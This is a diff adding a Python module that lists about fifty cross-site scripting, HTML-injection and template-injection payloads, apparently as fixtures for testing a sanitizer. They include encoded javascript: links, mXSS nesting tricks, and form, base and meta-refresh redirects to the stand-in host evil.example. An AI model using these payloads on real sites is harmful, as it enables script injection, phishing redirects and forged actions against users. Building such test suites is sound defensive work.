@@ -1,0 +1,65 @@
+"""Markup that runs a script, or acts, wherever a page takes a text for markup."""
+
+from __future__ import annotations
+
+RAN = "document.documentElement.dataset.ran=1"
+"""What each attack does where it runs."""
+
+ATTACKS: tuple[str, ...] = (
+    f"<img src=x onerror={RAN}>",
+    f"<svg onload={RAN}>",
+    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
+    f"<script>{RAN}</script>",
+    f"</script><script>{RAN}</script>",
+    f"</textarea></title></style><img src=x onerror={RAN}>",
+    f'" autofocus onfocus={RAN} onmouseover={RAN} x="',
+    f"' autofocus onfocus={RAN} onmouseover={RAN} x='",
+    f'"><img src=x onerror={RAN}>',
+    f"'><img src=x onerror={RAN}>",
+    f"--><img src=x onerror={RAN}><!--",
+    f"<a href=javascript:{RAN}>link</a>",
+    f"<a href=' java\tscript:{RAN}'>link</a>",
+    f"<a href='&#106;&#x61;vascript:{RAN}'>link</a>",
+    f"<a href='JaVaScRiPt&colon;{RAN}'>link</a>",
+    f"<a href='data:text/html,<script>parent.{RAN}</script>'>link</a>",
+    f"[link](javascript:{RAN})",
+    f"[link](java&#115;cript:{RAN})",
+    f"[link]( \x01javascript:{RAN})",
+    f"[link](<javascript:{RAN}>)",
+    f"<javascript:{RAN}>",
+    f'![picture](x "onerror={RAN}")',
+    f'![picture](x"onerror="{RAN})',
+    "![logout](/logout)",
+    "![login](/login?name=admin&password=other)",
+    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
+    f"<iframe src=javascript:parent.{RAN}></iframe>",
+    f"<object data='data:text/html,<script>parent.{RAN}</script>'></object>",
+    f"<embed src=javascript:{RAN}>",
+    "<form action=https://evil.example/><button>go</button></form>",
+    "<button formaction=javascript:alert(1)>go</button>",
+    "<input type=hidden name=approved value=yes>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>body{display:none}</style>",
+    "<p style='position:fixed;inset:0;background:url(https://evil.example/x)'>cover</p>",
+    "<div class='modal active overlay' id=awaiting name=fid>cover</div>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RAN}></style></mglyph></table></math>",
+    f"<svg><style><img src=x onerror={RAN}></style></svg>",
+    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'></noscript>",
+    f"<details open ontoggle={RAN}>x</details>",
+    f"<video><source onerror={RAN}></video>",
+    f"<img src='x`' onerror='{RAN}'`>",
+    f"<isindex type=image src=x onerror={RAN}>",
+    f"<x/onclick={RAN}/tabindex=1/autofocus/onfocus={RAN}>x",
+    f"${{{RAN}}}",
+    "{{ 7 * '7' }}{% raw %}",
+    "{{ request.scope }}",
+    f"\x1b]8;;javascript:{RAN}\x07link\x1b]8;;\x07",
+    '<!--masumi_sumi {"type": "hidden", "name": "approved", "value": "yes"}-->',
+    f"```\n<img src=x onerror={RAN}>\n```",
+    f"<![CDATA[<img src=x onerror={RAN}>]]>",
+)
+
+ALL = "\n\n".join(ATTACKS)
+"""All attacks in one text."""
